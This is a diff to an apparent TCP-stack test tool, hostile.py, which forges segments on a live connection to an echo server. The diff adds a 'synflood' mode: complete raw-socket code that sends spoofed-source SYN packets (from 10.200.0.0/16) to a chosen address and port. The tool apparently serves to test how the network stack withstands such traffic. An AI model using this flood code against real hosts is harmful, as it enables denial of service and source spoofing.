@@ -4,6 +4,7 @@ would refuse, sent on the 4-tuple of a live connection whose sequence
 numbers the tool reads from its own socket (TCP_REPAIR, so root).
 
   hostile.py ADDR PORT MODE COUNT [HOLD]
+  hostile.py ADDR PORT synflood COUNT
 
 connects to an echo server (cat), exchanges 1000 bytes, sends COUNT forged segments of MODE
 (checksums valid, so only the TCP layer can refuse them), then exchanges
@@ -13,11 +14,14 @@ connects to an echo server (cat), exchanges 1000 bytes, sends COUNT forged segme
   old       1000 bytes ending 2^30 before it (already acknowledged)
   baddoff   100 bytes at the next sequence with a data offset of 2
 
-Prints "PORT OK" once both exchanges came back intact: the connection
+synflood sends COUNT bare SYNs to ADDR:PORT, each from its own spoofed
+source address in 10.200.0.0/16 and a random port, and prints how many
+it sent. Otherwise it prints "PORT OK" once both exchanges came back intact: the connection
 survived what its own client did to it. Then keeps the connection open
 HOLD seconds (default 0), for its flow to be inspected.
 """
 import hashlib
+import random
 import socket
 import struct
 import sys
@@ -71,8 +75,33 @@ def exchange(sock, n):
         sys.exit("reply differs from what was sent")
 
 
+def synflood(addr, port, count):
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    rng = random.Random(port)
+    deadline = time.monotonic() + 60
+    sent = 0
+    for i in range(count):
+        src = f"10.200.{(i >> 8) & 0xFF}.{i & 0xFF or 1}"
+        tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), port,
+                          rng.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
+        pseudo = socket.inet_aton(src) + socket.inet_aton(addr) + struct.pack(
+            "!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0,
+                         64, socket.IPPROTO_TCP, 0, socket.inet_aton(src),
+                         socket.inet_aton(addr))
+        raw.sendto(ip + tcp, (addr, 0))
+        sent += 1
+        if time.monotonic() > deadline:
+            break
+    print(sent)
+
+
 def main():
     addr, port, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
+    if mode == "synflood":
+        synflood(addr, port, count)
+        return
     sock = socket.create_connection((addr, port), timeout=30)
     local, lport = sock.getsockname()
     exchange(sock, 1000)
